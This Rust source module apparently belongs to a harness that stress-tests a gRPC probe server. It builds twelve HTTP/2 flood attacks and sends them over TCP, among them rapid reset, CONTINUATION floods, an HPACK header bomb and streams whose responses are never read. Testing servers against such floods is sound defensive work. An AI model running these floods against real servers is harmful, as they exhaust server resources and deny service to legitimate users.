//! Attackers that send frames which cost a server something and are useless.

use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, literals,
};
use crate::pb::probe::v1::Request;
use stubwright::prost::Message;

/// Kind of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Prefixes of messages of 4 GiB.
    LongMessage,
    /// Calls that are reset at once.
    RapidReset,
    /// PING.
    Ping,
    /// SETTINGS.
    Settings,
    /// Empty DATA frames.
    EmptyData,
    /// DATA frames with one byte.
    OneByteData,
    /// PRIORITY.
    Priority,
    /// An endless header block in small CONTINUATION frames.
    Continuation,
    /// An endless header block in large CONTINUATION frames.
    LongHeaders,
    /// Header blocks of 16 KiB that decode to 48 MiB.
    HeaderBomb,
    /// Calls with endless responses that are not read.
    Unread,
    /// Calls with endless responses and windows that are never opened: the attacker reads everything, and the server
    /// may send nothing.
    ShutWindows,
}

/// Number of frames in a wave, if they are small.
const WAVE: usize = 200;

impl Flood {
    /// All kinds.
    pub const ALL: [Flood; 12] = [
        Flood::LongMessage,
        Flood::RapidReset,
        Flood::Ping,
        Flood::Settings,
        Flood::EmptyData,
        Flood::OneByteData,
        Flood::Priority,
        Flood::Continuation,
        Flood::LongHeaders,
        Flood::HeaderBomb,
        Flood::Unread,
        Flood::ShutWindows,
    ];

    /// Returns the kind with this name.
    pub fn named(name: &str) -> Option<Flood> {
        Flood::ALL.into_iter().find(|flood| flood.name() == name)
    }

    /// Returns the name of the kind.
    pub fn name(self) -> String {
        format!("{self:?}")
    }

    /// Returns the bytes before the first wave.
    fn opening(self) -> Vec<u8> {
        match self {
            Flood::EmptyData | Flood::OneByteData => head(END_HEADERS, 1, "ClientStream"),
            Flood::Continuation | Flood::LongHeaders => head(0, 1, "ClientStream"),
            // The largest windows that HTTP/2 allows.
            Flood::Unread => [
                frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]),
                frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0, 0]),
            ]
            .concat(),
            Flood::ShutWindows => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
            _ => Vec::new(),
        }
    }

    /// Returns the frames that are repeated. Their first stream is `stream`.
    fn unit(self, stream: u32) -> Vec<u8> {
        match self {
            Flood::LongMessage => {
                let mut call = head(END_HEADERS, stream, "ClientStream");
                call.extend(frame(DATA, 0, stream, &[0, 0xff, 0xff, 0xff, 0xff]));
                call
            }
            Flood::RapidReset => {
                let mut call = head(END_HEADERS, stream, "ClientStream");
                call.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
                call
            }
            Flood::Ping => frame(PING, 0, 0, &[0; 8]),
            Flood::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Flood::EmptyData => frame(DATA, 0, 1, &[]),
            Flood::OneByteData => frame(DATA, 0, 1, &[0]),
            Flood::Priority => frame(PRIORITY, 0, 1, &[0; 5]),
            Flood::Continuation => frame(CONTINUATION, 0, 1, &[0x40, 1, b'a', 1, b'b']),
            Flood::LongHeaders => {
                let block = literals(&[("k", &"v".repeat(16_000))]);
                frame(CONTINUATION, 0, 1, &block)
            }
            Flood::HeaderBomb => {
                // A literal with incremental indexing, `k` with 4,000 bytes, then many references to it.
                let mut block = literals(&fields("/probe.v1.Probe/ClientStream"));
                block.extend([0x40, 1, b'k', 0x7f, 0xa1, 0x1e]);
                block.extend([b'v'; 4000]);
                block.extend([0xbe; 12_000]);
                frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
            }
            Flood::Unread | Flood::ShutWindows => {
                let endless = Request {
                    payload: vec![7; 1_000],
                    count: u32::MAX,
                    ..Request::default()
                };
                let mut message = vec![0];
                let payload = endless.encode_to_vec();
                message.extend(u32::try_from(payload.len()).unwrap_or(0).to_be_bytes());
                message.extend(payload);
                let mut call = head(END_HEADERS, stream, "ServerStream");
                call.extend(frame(DATA, END_STREAM, stream, &message));
                call
            }
        }
    }

    /// Returns how often a wave repeats the frames.
    fn repeats(self) -> usize {
        match self {
            Flood::LongMessage => 50,
            Flood::ShutWindows => 4,
            Flood::LongHeaders => 10,
            Flood::HeaderBomb | Flood::Unread => 1,
            _ => WAVE,
        }
    }
}

fn fields(path: &str) -> [(&'static str, &str); 5] {
    [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
    ]
}

fn head(flags: u8, stream: u32, method: &str) -> Vec<u8> {
    let path = format!("/probe.v1.Probe/{method}");
    frame(HEADERS, flags, stream, &literals(&fields(&path)))
}

/// A connection that floods.
#[derive(Debug)]
pub struct Attacker {
    flood: Flood,
    socket: TcpStream,
    stream: u32,
}

impl Attacker {
    /// Connects to a server.
    ///
    /// # Errors
    /// Returns the errors of the socket.
    pub fn connect(flood: Flood, address: &str) -> io::Result<Attacker> {
        let socket = TcpStream::connect(address)?;
        // A short timeout, so that the flood is blocked neither by the server's responses nor by a server that does
        // not read.
        socket.set_write_timeout(Some(Duration::from_millis(200)))?;
        socket.set_read_timeout(Some(Duration::from_millis(1)))?;
        let mut attacker = Attacker {
            flood,
            socket,
            stream: 1,
        };
        let mut opening = PREFACE.to_vec();
        opening.extend(frame(SETTINGS, 0, 0, &[]));
        opening.extend(flood.opening());
        attacker.socket.write_all(&opening)?;
        Ok(attacker)
    }

    /// Sends a wave of frames. Then reads some of the server's bytes, unless the flood is about not reading. Returns the
    /// number of bytes sent.
    ///
    /// # Errors
    /// Returns the errors of the socket, and `UnexpectedEof` if the server has closed the connection.
    pub fn wave(&mut self) -> io::Result<usize> {
        let mut wave = Vec::new();
        for _ in 0..self.flood.repeats() {
            wave.extend(self.flood.unit(self.stream));
            self.stream += 2;
        }
        self.socket.write_all(&wave)?;
        if self.flood != Flood::Unread && matches!(self.socket.read(&mut [0; 16 << 10]), Ok(0)) {
            return Err(ErrorKind::UnexpectedEof.into());
        }
        Ok(wave.len())
    }
}
